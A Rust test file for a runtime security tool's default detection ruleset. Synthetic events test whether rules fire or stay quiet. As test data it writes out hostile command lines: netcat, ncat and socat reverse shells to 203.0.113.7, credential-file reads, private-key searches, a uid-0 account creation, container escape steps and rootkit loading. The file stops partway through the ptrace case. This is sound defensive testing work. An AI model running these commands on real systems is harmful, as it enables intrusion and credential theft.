//! vigil's default ruleset (`crates/vigil/rules/vigil_rules.yaml`):
//!
//! 1. it loads with zero errors and zero warnings, every rule restricts `evt.type`, carries
//!    ATT&CK (`mitre_*` + `T####`) and maturity tags, and only uses fields the state
//!    engine's extractor implements;
//! 2. every rule fires on realistic synthetic events and stays quiet on near misses;
//! 3. a benign workload (`cargo build`, `apt-get install`, `git clone`) raises nothing at
//!    WARNING or above;
//! 4. the corpus captures replay through `State` + the ruleset without panics and give the
//!    detections their content justifies.

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use vigil_event::{FieldSchema, MapEvent, MapEventBuilder, Priority, Value};
use vigil_k8saudit::K8S_AUDIT_SCHEMA;
use vigil_rules::{EventTypes, LoadOptions, RuleMatching, RulesFile, Ruleset, RulesetConfig, load};
use vigil_scap::{Block, Converter, Reader};
use vigil_state::{SYSCALL_SCHEMA, SYSCALL_SOURCE, State};

const RULES_PATH: &str = "rules/vigil_rules.yaml";
const RULES: &str = include_str!("../rules/vigil_rules.yaml");

fn schemas() -> Vec<&'static dyn FieldSchema> {
    vec![&SYSCALL_SCHEMA, &K8S_AUDIT_SCHEMA]
}

/// The ruleset with every matching rule reported (the loaded order is kept).
fn ruleset() -> &'static Ruleset {
    static RS: OnceLock<Ruleset> = OnceLock::new();
    RS.get_or_init(|| {
        let res = load(
            &[RulesFile::new(RULES_PATH, RULES)],
            &LoadOptions::new(schemas()),
        );
        let rs = res.ruleset.expect("default rules load");
        rs.configure(&RulesetConfig::default().rule_matching(RuleMatching::All))
    })
}

fn hits(rs: &Ruleset, ev: &MapEvent) -> Vec<String> {
    let mut out = Vec::new();
    rs.evaluate(SYSCALL_SOURCE, ev, &mut out);
    out.iter().map(|r| r.name.clone()).collect()
}

// ---------------------------------------------------------------------------------------
// 1. Loading, tags, fields
// ---------------------------------------------------------------------------------------

#[test]
fn loads_without_errors_or_warnings() {
    let res = load(
        &[RulesFile::new(RULES_PATH, RULES)],
        &LoadOptions::new(schemas()),
    );
    let errors: Vec<_> = res.errors().map(|d| format!("{d:?}")).collect();
    let warnings: Vec<_> = res.warnings().map(|d| format!("{d:?}")).collect();
    assert!(errors.is_empty(), "errors: {errors:#?}");
    assert!(warnings.is_empty(), "warnings: {warnings:#?}");
    let rs = res.ruleset.expect("ruleset");
    assert!(rs.rules().len() >= 45, "only {} rules", rs.rules().len());
    for r in rs.rules() {
        assert_eq!(r.source, "syscall", "{}", r.name);
        assert!(r.enabled, "{} disabled", r.name);
        match &r.event_types {
            EventTypes::Only(t) => assert!(!t.is_empty(), "{} matches no event type", r.name),
            EventTypes::All => panic!("{} does not restrict evt.type", r.name),
        }
    }
}

#[test]
fn every_rule_has_attack_and_maturity_tags() {
    let technique = regex::Regex::new(r"^(T\d{4}(\.\d{3})?|TA\d{4})$").expect("regex");
    let tactics = [
        "mitre_initial_access",
        "mitre_execution",
        "mitre_persistence",
        "mitre_privilege_escalation",
        "mitre_defense_evasion",
        "mitre_credential_access",
        "mitre_discovery",
        "mitre_lateral_movement",
        "mitre_collection",
        "mitre_command_and_control",
        "mitre_exfiltration",
        "mitre_impact",
    ];
    let mut by_tactic: BTreeMap<&str, usize> = BTreeMap::new();
    for r in ruleset().rules() {
        let mitre: Vec<_> = r.tags.iter().filter(|t| t.starts_with("mitre_")).collect();
        assert!(!mitre.is_empty(), "{}: no mitre_ tag", r.name);
        for t in &mitre {
            assert!(
                tactics.contains(&t.as_str()),
                "{}: unknown tactic {t}",
                r.name
            );
            *by_tactic
                .entry(tactics.iter().find(|x| **x == t.as_str()).expect("tactic"))
                .or_default() += 1;
        }
        assert!(
            r.tags
                .iter()
                .any(|t| technique.is_match(t) && t.starts_with("T1")),
            "{}: no T#### technique tag",
            r.name
        );
        let maturity: Vec<_> = r
            .tags
            .iter()
            .filter(|t| t.starts_with("maturity_"))
            .collect();
        assert_eq!(maturity.len(), 1, "{}: maturity tags {maturity:?}", r.name);
        assert!(
            ["maturity_stable", "maturity_incubating"].contains(&maturity[0].as_str()),
            "{}: {}",
            r.name,
            maturity[0]
        );
        assert!(!r.desc.trim().is_empty() && !r.output.trim().is_empty());
    }
    eprintln!("rules by tactic: {by_tactic:?}");
}

/// Every field named in the file resolves in the syscall catalogue and is extracted by
/// vigil-state (a field the extractor lacks would make a rule silently dead).
#[test]
fn every_field_is_implemented_by_the_extractor() {
    let re = regex::Regex::new(
        r"\b(?:evt|proc|fd|user|group|container|k8s|thread|fs)\.[a-z0-9_.]*[a-z0-9_]",
    )
    .expect("regex");
    let mut seen = BTreeSet::new();
    for m in re.find_iter(RULES) {
        let name = m.as_str();
        let r = SYSCALL_SCHEMA
            .resolve(name, None)
            .or_else(|_| SYSCALL_SCHEMA.resolve(name, Some("0")))
            .or_else(|_| SYSCALL_SCHEMA.resolve(name, Some("x")));
        let Ok(r) = r else {
            // Not a field (prose in a description); the loader checks conditions/outputs.
            continue;
        };
        let info = SYSCALL_SCHEMA.info(r.id).expect("info");
        if seen.insert(info.name) {
            assert!(
                vigil_state::is_implemented(info.name),
                "{name} ({}) is not extracted by vigil-state",
                info.name
            );
            assert!(!info.deprecated, "{name} is deprecated");
        }
    }
    assert!(seen.len() > 30, "{seen:?}");
}

// ---------------------------------------------------------------------------------------
// Synthetic events
// ---------------------------------------------------------------------------------------

/// A process context for synthetic events.
#[derive(Clone, Debug)]
struct P {
    name: String,
    exe: String,
    args: String,
    /// Ancestors, parent first.
    anc: Vec<String>,
    uid: u64,
    cid: String,
    image: String,
    privileged: bool,
    tty: u64,
    cwd: String,
    upper: bool,
    memfd: bool,
    vpid: i64,
}

const CID: &str = "3ad7b2f1c9e4";

impl P {
    /// `cmd` is "exe args…"; a bare name gets /usr/bin/ prepended. `anc` is parent first.
    fn new(cmd: &str, anc: &[&str]) -> P {
        let (exe, args) = cmd.split_once(' ').unwrap_or((cmd, ""));
        let name = exe.rsplit('/').next().unwrap_or(exe);
        let exe = if exe.contains('/') {
            exe.to_string()
        } else {
            format!("/usr/bin/{exe}")
        };
        P {
            name: name.chars().take(15).collect(),
            exe,
            args: args.to_string(),
            anc: anc.iter().map(|s| s.to_string()).collect(),
            uid: 0,
            cid: "host".into(),
            image: String::new(),
            privileged: false,
            tty: 0,
            cwd: "/root/".into(),
            upper: false,
            memfd: false,
            vpid: 4242,
        }
    }
    fn ctr(mut self, image: &str) -> P {
        self.cid = CID.into();
        self.image = image.into();
        self
    }
    fn privileged(mut self) -> P {
        self.privileged = true;
        self
    }
    fn tty(mut self) -> P {
        self.tty = 34816;
        self
    }
    fn uid(mut self, uid: u64) -> P {
        self.uid = uid;
        self
    }
    fn cwd(mut self, cwd: &str) -> P {
        self.cwd = cwd.into();
        self
    }
    fn upper(mut self) -> P {
        self.upper = true;
        self
    }
    fn memfd(mut self) -> P {
        self.memfd = true;
        self
    }
    fn vpid(mut self, v: i64) -> P {
        self.vpid = v;
        self
    }
    fn exepath(mut self, e: &str) -> P {
        self.exe = e.into();
        self
    }
}

fn dir_of(path: &str) -> &str {
    match path.rfind('/') {
        Some(0) => "/",
        Some(i) => &path[..i],
        None => ".",
    }
}

fn base_of(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// An event of type `ty` by `p`, successful (`evt.rawres=0`).
fn ev(p: &P, ty: &str) -> MapEventBuilder<'static> {
    let cmdline = if p.args.is_empty() {
        p.name.clone()
    } else {
        format!("{} {}", p.name, p.args)
    };
    let mut b = MapEvent::builder(&SYSCALL_SCHEMA)
        .evtype(ty)
        .str("proc.name", &p.name)
        .str("proc.exe", &p.exe)
        .str("proc.exepath", &p.exe)
        .str("proc.args", &p.args)
        .str("proc.cmdline", &cmdline)
        .str("proc.cwd", &p.cwd)
        .int("proc.vpid", p.vpid)
        .int("proc.pid", 4242)
        .uint("proc.tty", p.tty)
        .set("proc.is_exe_upper_layer", Value::Bool(p.upper))
        .set("proc.is_exe_from_memfd", Value::Bool(p.memfd))
        .uint("user.uid", p.uid)
        .str("user.name", if p.uid == 0 { "root" } else { "alice" })
        .str("container.id", &p.cid)
        .int("evt.rawres", 0)
        .str("evt.res", "SUCCESS")
        .set_list("proc.aname", p.anc.iter().map(|a| Value::string(a.clone())));
    if let Some(parent) = p.anc.first() {
        b = b.str("proc.pname", parent);
    }
    if p.cid != "host" {
        b = b
            .str("container.image.repository", &p.image)
            .set("container.privileged", Value::Bool(p.privileged));
    }
    b
}

/// A successful open of a regular file. `flags` as rendered (`O_WRONLY|O_CREAT|O_TRUNC`).
fn open_raw(p: &P, path: &str, raw: &str, flags: &str) -> MapEvent {
    let read = flags.contains("O_RDONLY") || flags.contains("O_RDWR");
    let write = flags.contains("O_WRONLY") || flags.contains("O_RDWR");
    ev(p, "openat")
        .int("evt.rawres", 3)
        .int("fd.num", 3)
        .str("fd.typechar", "f")
        .str("fd.type", "file")
        .str("fd.name", path)
        .str("fd.nameraw", raw)
        .str("fd.directory", dir_of(path))
        .str("fd.filename", base_of(path))
        .str("fs.path.name", path)
        .str("evt.arg.flags", flags)
        .set("evt.is_open_read", Value::Bool(read))
        .set("evt.is_open_write", Value::Bool(write))
        .set("evt.is_open_create", Value::Bool(flags.contains("O_CREAT")))
        .build()
}

fn open(p: &P, path: &str, flags: &str) -> MapEvent {
    open_raw(p, path, path, flags)
}

fn read(p: &P, path: &str) -> MapEvent {
    open(p, path, "O_RDONLY|O_CLOEXEC")
}

fn write(p: &P, path: &str) -> MapEvent {
    open(p, path, "O_TRUNC|O_CREAT|O_WRONLY")
}

fn exec(p: &P) -> MapEvent {
    ev(p, "execve").build()
}

/// unlinkat/renameat2 of `path` (fs.path.name is the removed or renamed path).
fn remove(p: &P, ty: &str, path: &str) -> MapEvent {
    ev(p, ty).str("fs.path.name", path).build()
}

fn symlink(p: &P, target: &str, linkpath: &str) -> MapEvent {
    ev(p, "symlinkat")
        .str("evt.arg.target", target)
        .str("evt.arg.linkpath", linkpath)
        .str("fs.path.source", target)
        .str("fs.path.target", linkpath)
        .build()
}

fn hardlink(p: &P, old: &str, new: &str) -> MapEvent {
    ev(p, "linkat")
        .str("evt.arg.oldpath", old)
        .str("evt.arg.newpath", new)
        .build()
}

fn connect(p: &P, sip: &str, sport: u64) -> MapEvent {
    let ip: IpAddr = sip.parse().expect("ip");
    let (tc, ty) = if ip.is_ipv4() {
        ("4", "ipv4")
    } else {
        ("6", "ipv6")
    };
    ev(p, "connect")
        .int("fd.num", 5)
        .str("fd.typechar", tc)
        .str("fd.type", ty)
        .str("fd.l4proto", "tcp")
        .str("fd.name", &format!("10.0.2.15:48812->{sip}:{sport}"))
        .set("fd.sip", Value::Ip(ip))
        .set("fd.snet", Value::Ip(ip))
        .uint("fd.sport", sport)
        .build()
}

fn connect_unix(p: &P, path: &str) -> MapEvent {
    ev(p, "connect")
        .int("fd.num", 5)
        .str("fd.typechar", "u")
        .str("fd.type", "unix")
        .str(
            "fd.name",
            &format!("ffff9c3a5e2b8800->ffff9c3a5e2b9c00 {path}"),
        )
        .build()
}

fn dup(p: &P, ty: &str, newfd: i64, fdtype: &str) -> MapEvent {
    let tc = match fdtype {
        "ipv4" => "4",
        "ipv6" => "6",
        "file" => "f",
        _ => "u",
    };
    ev(p, ty)
        .int("evt.rawres", newfd)
        .int("fd.num", 3)
        .str("fd.type", fdtype)
        .str("fd.typechar", tc)
        .str("fd.name", "172.17.0.3:40122->203.0.113.7:4444")
        .build()
}

fn ptrace(p: &P, request: &str) -> MapEvent {
    ev(p, "ptrace")
        .str("evt.arg.request", request)
        .str("evt.arg.pid", "1337")
        .build()
}

fn chmod(p: &P, path: &str, mode: &str) -> MapEvent {
    ev(p, "fchmodat")
        .str("evt.arg.filename", path)
        .str("fs.path.name", path)
        .str("evt.arg.mode", mode)
        .build()
}

/// A `container` event (container start) carrying the container's fields.
fn container_started(image: &str, privileged: bool, mounts: &[(&str, &str)]) -> MapEvent {
    let mut b = MapEvent::builder(&SYSCALL_SCHEMA)
        .evtype("container")
        .str("container.id", CID)
        .str("container.name", "web")
        .str("container.image.repository", image)
        .set("container.privileged", Value::Bool(privileged))
        .str("proc.name", "dockerd")
        .int("evt.rawres", 0);
    let s: Vec<String> = mounts
        .iter()
        .map(|(src, dst)| format!("{src}:{dst}::true:rprivate"))
        .collect();
    b = b.str("container.mounts", &s.join(","));
    for (src, dst) in mounts {
        b = b.str(&format!("container.mount.dest[{src}]"), dst);
    }
    b.build()
}

const SSH_SESSION: &[&str] = &["bash", "sshd", "sshd", "systemd"];
const SHIM: &[&str] = &["containerd-shim", "systemd"];
const POSTINST: &[&str] = &[
    "jq.postinst",
    "dpkg",
    "apt-get",
    "sudo",
    "bash",
    "sshd",
    "systemd",
];

fn shell() -> P {
    P::new("/usr/bin/bash", &["sshd", "sshd", "systemd"])
}

// ---------------------------------------------------------------------------------------
// 2. Per-rule positives and near misses
// ---------------------------------------------------------------------------------------

struct Case {
    rule: &'static str,
    fire: Vec<MapEvent>,
    quiet: Vec<MapEvent>,
}

fn case(rule: &'static str, fire: Vec<MapEvent>, quiet: Vec<MapEvent>) -> Case {
    Case { rule, fire, quiet }
}

#[allow(clippy::too_many_lines)]
fn cases() -> Vec<Case> {
    let cat = |args: &str| P::new(&format!("cat {args}"), SSH_SESSION);
    let in_app = |cmd: &str| P::new(cmd, &["bash", "containerd-shim", "systemd"]).ctr("nginx");
    vec![
        case(
            "Credential Store Read by Untrusted Program",
            vec![
                read(&cat("/etc/shadow"), "/etc/shadow"),
                read(
                    &P::new("python3 steal.py", SSH_SESSION).ctr("python"),
                    "/etc/sudoers.d/90-cloud-init-users",
                ),
                read(&shell(), "/etc/gshadow"),
            ],
            vec![
                read(&P::new("/usr/bin/sudo -i", SSH_SESSION), "/etc/sudoers"),
                read(&P::new("/usr/sbin/sshd -D", &["systemd"]), "/etc/shadow"),
                read(
                    &P::new(
                        "/usr/sbin/useradd --system jq",
                        &["adduser", "sh", "jq.postinst", "dpkg", "apt-get"],
                    ),
                    "/etc/shadow",
                ),
                read(&cat("/etc/passwd"), "/etc/passwd"),
            ],
        ),
        case(
            "SSH Private Key Read by Untrusted Program",
            vec![
                read(
                    &cat("/home/alice/.ssh/id_ed25519"),
                    "/home/alice/.ssh/id_ed25519",
                ),
                read(
                    &P::new("python3 x.py", SSH_SESSION),
                    "/etc/ssh/ssh_host_rsa_key",
                ),
            ],
            vec![
                read(
                    &P::new("ssh git@github.com", SSH_SESSION),
                    "/home/alice/.ssh/id_ed25519",
                ),
                read(
                    &cat("/home/alice/.ssh/id_ed25519.pub"),
                    "/home/alice/.ssh/id_ed25519.pub",
                ),
                read(
                    &cat("/home/alice/.ssh/known_hosts"),
                    "/home/alice/.ssh/known_hosts",
                ),
            ],
        ),
        case(
            "Cloud or Cluster Credentials Read by Untrusted Program",
            vec![
                read(&cat("/root/.aws/credentials"), "/root/.aws/credentials"),
                read(
                    &P::new("python3 -c x", SSH_SESSION),
                    "/etc/kubernetes/admin.conf",
                ),
                read(
                    &in_app("/usr/bin/tar czf /tmp/x.tgz /root"),
                    "/root/.docker/config.json",
                ),
            ],
            vec![
                read(
                    &P::new("/usr/local/bin/aws s3 ls", SSH_SESSION),
                    "/root/.aws/credentials",
                ),
                read(
                    &P::new("kubectl get pods", SSH_SESSION),
                    "/home/alice/.kube/config",
                ),
                read(&cat("/root/.aws/credentials.bak.txt"), "/root/notes.txt"),
            ],
        ),
        case(
            "Service Account Token Read by Shell Utility",
            vec![read(
                &in_app("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            )],
            vec![read(
                &P::new("/usr/bin/java -jar app.jar", SHIM).ctr("eclipse-temurin"),
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            )],
        ),
        case(
            "Sensitive File Read via Path Traversal",
            vec![open_raw(
                &P::new("/usr/sbin/php-fpm8.2", &["php-fpm8.2", "containerd-shim"]).ctr("php"),
                "/etc/passwd",
                "/var/www/html/../../../etc/passwd",
                "O_RDONLY",
            )],
            vec![
                read(
                    &P::new("/usr/sbin/php-fpm8.2", &["php-fpm8.2"]).ctr("php"),
                    "/etc/passwd",
                ),
                open_raw(
                    &cat("../../etc/hosts"),
                    "/etc/hosts",
                    "../../../etc/hosts",
                    "O_RDONLY",
                ),
            ],
        ),
        case(
            "Search for Private Keys or Passwords",
            vec![
                exec(&P::new("grep -r BEGIN RSA PRIVATE /home", SSH_SESSION)),
                exec(&P::new("find / -name id_rsa", SSH_SESSION)),
                exec(&P::new("grep -ri aws_secret_access_key /", SSH_SESSION).ctr("alpine")),
            ],
            vec![
                exec(&P::new("grep -rn TODO src/", SSH_SESSION)),
                exec(&P::new("find . -name *.rs", SSH_SESSION)),
            ],
        ),
        case(
            "Symlink Pointing at Sensitive File",
            vec![
                symlink(
                    &P::new("ln -s /etc/shadow /tmp/s", SSH_SESSION),
                    "/etc/shadow",
                    "/tmp/s",
                ),
                symlink(
                    &P::new("ln -s / /tmp/hostroot", SSH_SESSION).ctr("alpine"),
                    "/",
                    "/tmp/hostroot",
                ),
            ],
            vec![
                symlink(
                    &P::new(
                        "update-alternatives --install",
                        &["vim.postinst", "dpkg", "apt-get"],
                    ),
                    "/usr/bin/vim.basic",
                    "/etc/alternatives/vim",
                ),
                symlink(
                    &P::new(
                        "ln -s /etc/nginx/sites-available/x /etc/nginx/sites-enabled/x",
                        SSH_SESSION,
                    ),
                    "/etc/nginx/sites-available/x",
                    "/etc/nginx/sites-enabled/x",
                ),
            ],
        ),
        case(
            "Hardlink Pointing at Sensitive File",
            vec![hardlink(
                &P::new("ln /etc/shadow /tmp/x", SSH_SESSION),
                "/etc/shadow",
                "/tmp/x",
            )],
            vec![hardlink(
                &P::new("ln a b", SSH_SESSION),
                "/work/a",
                "/work/b",
            )],
        ),
        case(
            "Raw Packet Socket Opened in Container",
            vec![
                ev(&in_app("python3 sniff.py"), "socket")
                    .str("evt.arg.domain", "AF_PACKET")
                    .build(),
            ],
            vec![
                ev(&in_app("python3 app.py"), "socket")
                    .str("evt.arg.domain", "AF_INET")
                    .build(),
                ev(&P::new("/sbin/dhclient eth0", &["systemd"]), "socket")
                    .str("evt.arg.domain", "AF_PACKET")
                    .build(),
            ],
        ),
        case(
            "Process Environment Read from /proc",
            vec![read(&cat("/proc/1/environ"), "/proc/1/environ")],
            vec![
                read(&P::new("ps eww", SSH_SESSION), "/proc/1234/environ"),
                read(&cat("/proc/self/environ"), "/proc/self/environ"),
                read(&cat("/proc/1/status"), "/proc/1/status"),
            ],
        ),
        case(
            "Interactive Shell Started in Container",
            vec![exec(
                &P::new("/bin/bash", &["runc:[2:INIT]"]).ctr("nginx").tty(),
            )],
            vec![
                exec(&P::new("/bin/bash", &["runc:[2:INIT]"]).ctr("nginx")),
                exec(&P::new("/bin/bash", &["sshd"]).tty()),
                exec(&P::new("/bin/ls", &["runc:[2:INIT]"]).ctr("nginx").tty()),
            ],
        ),
        case(
            "Shell Spawned by Network Service",
            vec![
                exec(&P::new("/bin/sh -c id", &["php-fpm8.2", "php-fpm8.2"]).ctr("php")),
                exec(&P::new("/bin/bash -i", &["nginx", "nginx", "systemd"])),
            ],
            vec![
                exec(&P::new("/bin/sh -c id", SSH_SESSION)),
                exec(&P::new("/usr/bin/id", &["php-fpm8.2"]).ctr("php")),
            ],
        ),
        case(
            "Standard Stream Redirected to Network Socket",
            vec![
                dup(
                    &P::new("/bin/bash -i", &["bash", "php-fpm8.2"]),
                    "dup2",
                    0,
                    "ipv4",
                ),
                dup(&in_app("python3 -c pty"), "dup3", 1, "ipv6"),
            ],
            vec![
                dup(&shell(), "dup2", 1, "file"),
                dup(&P::new("/usr/sbin/xinetd", &["systemd"]), "dup2", 0, "ipv4"),
                dup(&shell(), "dup2", 5, "ipv4"),
            ],
        ),
        case(
            "Netcat Started with Command Execution",
            vec![
                exec(&P::new("nc -e /bin/sh 203.0.113.7 4444", SSH_SESSION)),
                exec(&P::new("ncat --sh-exec bash 203.0.113.7 443", SSH_SESSION).ctr("alpine")),
                exec(&P::new(
                    "socat TCP:203.0.113.7:443 EXEC:/bin/bash",
                    SSH_SESSION,
                )),
            ],
            vec![
                exec(&P::new("nc -zv 127.0.0.1 22", SSH_SESSION)),
                exec(&P::new("nc -l 8080", SSH_SESSION)),
                exec(&P::new(
                    "socat TCP-LISTEN:8080 TCP:10.0.0.2:80",
                    SSH_SESSION,
                )),
            ],
        ),
        case(
            "Program Executed from Shared Memory",
            vec![
                exec(&P::new("/dev/shm/.x/kdevtmpfs", &["sh", "cron"])),
                exec(&P::new("/bin/sh /dev/shm/stage.sh", SSH_SESSION)),
            ],
            vec![
                exec(&P::new("/bin/ls /dev/shm", SSH_SESSION)),
                exec(&P::new("/usr/bin/python3 /dev/shm/x.py", SSH_SESSION).cwd("/root")),
            ],
        ),
        case(
            "Fileless Program Execution",
            vec![exec(&P::new("memfd:payload", &["python3", "bash"]).memfd())],
            vec![
                exec(
                    &P::new("runc init", &["runc"])
                        .exepath("memfd:runc_cloned:/proc/self/exe")
                        .memfd(),
                ),
                exec(&P::new("python3 x.py", SSH_SESSION)),
            ],
        ),
        case(
            "Dropped Binary Executed in Container",
            vec![exec(&in_app("/usr/local/bin/ls2").upper())],
            vec![
                exec(&in_app("/usr/bin/ls")),
                exec(
                    &P::new(
                        "/work/app/target/debug/build/ring-3c1f/build-script-build",
                        &["cargo", "bash"],
                    )
                    .ctr("rust")
                    .upper(),
                ),
                exec(
                    &P::new("/usr/bin/jq --version", POSTINST)
                        .ctr("debian")
                        .upper(),
                ),
                exec(&P::new("/usr/local/bin/ls2", SSH_SESSION).upper()),
            ],
        ),
        case(
            "Program Executed from Temporary Directory in Container",
            vec![exec(&in_app("/tmp/.x/miner"))],
            vec![
                exec(&P::new("/tmp/.x/miner", SSH_SESSION)),
                exec(
                    &P::new(
                        "/tmp/cargo-installAbC/target/release/build/x/build-script-build",
                        &["cargo"],
                    )
                    .ctr("rust"),
                ),
            ],
        ),
        case(
            "Package Manager Run in Container",
            vec![
                exec(&in_app("apt-get install -y nmap")),
                exec(&in_app("pip install requests")),
            ],
            vec![
                exec(&P::new("apt-get install -y nmap", SSH_SESSION)),
                exec(&P::new("/usr/bin/dpkg --unpack", &["apt-get", "bash"]).ctr("debian")),
                exec(&in_app("pip --version")),
            ],
        ),
        case(
            "Cluster Client Run in Container",
            vec![exec(&in_app("kubectl get secrets -A"))],
            vec![exec(&P::new("kubectl get secrets -A", SSH_SESSION))],
        ),
        case(
            "File Written Below System Program Directory",
            vec![
                write(
                    &P::new("cp /tmp/x /usr/local/bin/backdoor", SSH_SESSION),
                    "/usr/local/bin/backdoor",
                ),
                write(&in_app("curl -o /usr/bin/ps http://x"), "/usr/bin/ps"),
            ],
            vec![
                write(
                    &P::new("dpkg --unpack", &["apt-get", "sudo", "bash"]),
                    "/usr/bin/jq.dpkg-new",
                ),
                write(
                    &P::new("cp a /usr/local/lib/x.so", SSH_SESSION),
                    "/usr/local/lib/x.so",
                ),
                read(&P::new("cat /usr/bin/ls", SSH_SESSION), "/usr/bin/ls"),
            ],
        ),
        case(
            "File Written Below /etc",
            vec![
                write(&shell(), "/etc/sudoers.d/99-nopasswd"),
                write(&in_app("python3 x.py"), "/etc/passwd"),
            ],
            vec![
                write(
                    &P::new(
                        "sed -i s/a/b/ /etc/jq.conf",
                        &["sh", "jq.postinst", "dpkg", "apt-get"],
                    ),
                    "/etc/sedXyZ12",
                ),
                write(
                    &P::new("/sbin/ldconfig.real", &["ldconfig", "dpkg"]),
                    "/etc/ld.so.cache~",
                ),
                write(
                    &P::new("/sbin/dhclient eth0", &["systemd"]),
                    "/etc/resolv.conf",
                ),
                read(&cat("/etc/hosts"), "/etc/hosts"),
            ],
        ),
        case(
            "Dynamic Linker Preload File Modified",
            vec![write(&shell(), "/etc/ld.so.preload")],
            vec![read(
                &P::new("/usr/bin/ls", SSH_SESSION),
                "/etc/ld.so.preload",
            )],
        ),
        case(
            "Scheduled Task Written",
            vec![write(&shell(), "/var/spool/cron/crontabs/root")],
            vec![
                write(
                    &P::new("crontab -e", SSH_SESSION),
                    "/var/spool/cron/crontabs/root",
                ),
                write(
                    &P::new("dpkg --unpack", &["apt-get"]),
                    "/etc/cron.d/sysstat.dpkg-new",
                ),
            ],
        ),
        case(
            "Systemd Unit Written Outside Package Manager",
            vec![write(
                &P::new("cp x.service /etc/systemd/system/", SSH_SESSION),
                "/etc/systemd/system/dbus-helper.service",
            )],
            vec![
                write(
                    &P::new("dpkg --unpack", &["apt-get"]),
                    "/lib/systemd/system/nginx.service.dpkg-new",
                ),
                write(
                    &P::new("systemctl edit nginx", SSH_SESSION),
                    "/etc/systemd/system/nginx.service.d/override.conf",
                ),
                write(&shell(), "/etc/systemd/journald.conf.bak"),
            ],
        ),
        case(
            "SSH Authorized Keys Modified",
            vec![open(
                &shell(),
                "/root/.ssh/authorized_keys",
                "O_APPEND|O_CREAT|O_WRONLY",
            )],
            vec![
                read(
                    &P::new("/usr/sbin/sshd -D -R", &["sshd"]),
                    "/root/.ssh/authorized_keys",
                ),
                write(
                    &P::new("/usr/sbin/sshd -D -R", &["sshd"]),
                    "/root/.ssh/authorized_keys",
                ),
            ],
        ),
        case(
            "Shell Startup File Modified",
            vec![open(
                &P::new("python3 implant.py", SSH_SESSION),
                "/home/alice/.bashrc",
                "O_APPEND|O_WRONLY",
            )],
            vec![
                write(
                    &P::new("vim /home/alice/.bashrc", SSH_SESSION),
                    "/home/alice/.bashrc",
                ),
                write(
                    &P::new("dpkg --unpack", &["apt-get"]),
                    "/etc/profile.d/bash_completion.sh.dpkg-new",
                ),
            ],
        ),
        case(
            "Account Created or Changed by Command",
            vec![exec(&P::new(
                "/usr/sbin/useradd -m -o -u 0 svc",
                SSH_SESSION,
            ))],
            vec![exec(&P::new(
                "/usr/sbin/useradd --system _jq",
                &["adduser", "jq.postinst", "dpkg", "apt-get"],
            ))],
        ),
        case(
            "Kernel Module Loaded from Container",
            vec![ev(&in_app("insmod /tmp/rk.ko").privileged(), "finit_module").build()],
            vec![ev(&P::new("insmod /tmp/rk.ko", SSH_SESSION), "finit_module").build()],
        ),
        case(
            "Kernel Module Loaded on Host",
            vec![
                ev(
                    &P::new("/usr/sbin/insmod /tmp/rk.ko", SSH_SESSION),
                    "finit_module",
                )
                .build(),
            ],
            vec![
                ev(
                    &P::new("/usr/lib/systemd/systemd-udevd", &["systemd"]),
                    "finit_module",
                )
                .build(),
                ev(
                    &P::new("/sbin/modprobe -q -- net-pf-10", &["kthreadd"]),
                    "finit_module",
                )
                .build(),
                ev(
                    &P::new("/usr/sbin/insmod /tmp/rk.ko", SSH_SESSION),
                    "finit_module",
                )
                .int("evt.rawres", -1)
                .str("evt.res", "EPERM")
                .build(),
            ],
        ),
        case(
            "Kernel Module Tool Run in Container",
            vec![exec(&in_app("/sbin/modprobe nf_tables"))],
            vec![exec(&P::new("/sbin/modprobe nf_tables", SSH_SESSION))],
        ),
        case(
            "Privileged Container Started",
            vec![container_started("nginx", true, &[])],
            vec![
                // The start is reported once, on the container event: the exec of the
                // container's first process does not report it again.
                exec(
                    &P::new("/docker-entrypoint.sh nginx", &["containerd-shim"])
                        .ctr("nginx")
                        .privileged()
                        .vpid(1),
                ),
                container_started("nginx", false, &[]),
                container_started("docker.io/calico/node", true, &[]),
                exec(
                    &P::new("/usr/sbin/nginx", &["sh"])
                        .ctr("nginx")
                        .privileged()
                        .vpid(7),
                ),
            ],
        ),
        case(
            "Container Started with Sensitive Host Mount",
            vec![
                container_started(
                    "alpine",
                    false,
                    &[("/var/run/docker.sock", "/var/run/docker.sock")],
                ),
                container_started("alpine", false, &[("/", "/host")]),
            ],
            vec![container_started(
                "alpine",
                false,
                &[("/srv/data", "/data")],
            )],
        ),
        case(
            "Namespace Entered by Unexpected Process",
            vec![
                ev(&P::new("python3 escape.py", SSH_SESSION), "setns")
                    .str("evt.arg.nstype", "CLONE_NEWNS")
                    .build(),
            ],
            vec![
                ev(&P::new("runc init", &["runc"]), "setns").build(),
                ev(
                    &P::new("/usr/bin/ip netns exec blue ping", SSH_SESSION),
                    "setns",
                )
                .build(),
                ev(&P::new("python3 escape.py", SSH_SESSION), "setns")
                    .int("evt.rawres", -1)
                    .build(),
            ],
        ),
        case(
            "Namespace Entered from Inside Container",
            vec![
                ev(
                    &in_app("nsenter --mount=/proc/1/ns/mnt -- sh").privileged(),
                    "setns",
                )
                .build(),
            ],
            vec![ev(&P::new("nsenter -t 1 -m", SSH_SESSION), "setns").build()],
        ),
        case(
            "Namespace Created by Unexpected Process",
            vec![
                ev(&in_app("unshare -r -m sh"), "unshare")
                    .str("evt.arg.flags", "CLONE_NEWNS|CLONE_NEWUSER")
                    .build(),
            ],
            vec![
                ev(&P::new("bwrap --unshare-all", SSH_SESSION), "unshare").build(),
                ev(
                    &P::new("(sd-worker)", &["systemd"])
                        .exepath("/usr/lib/systemd/systemd-executor"),
                    "unshare",
                )
                .build(),
            ],
        ),
        case(
            "Cgroup Release Agent Written in Container",
            vec![write(
                &in_app("sh -c echo").privileged(),
                "/tmp/cgrp/release_agent",
            )],
            vec![
                write(
                    &P::new("sh -c echo", SSH_SESSION),
                    "/sys/fs/cgroup/release_agent",
                ),
                read(
                    &in_app("cat /tmp/cgrp/release_agent"),
                    "/tmp/cgrp/release_agent",
                ),
            ],
        ),
        case(
            "Disk or Mount Tool Run in Privileged Container",
            vec![exec(&in_app("/sbin/debugfs /dev/sda1").privileged())],
            vec![
                exec(&in_app("/sbin/debugfs /dev/sda1")),
                exec(&P::new("/bin/mount /dev/sdb1 /mnt", SSH_SESSION)),
            ],
        ),
        case(
            "Process Attached with ptrace",
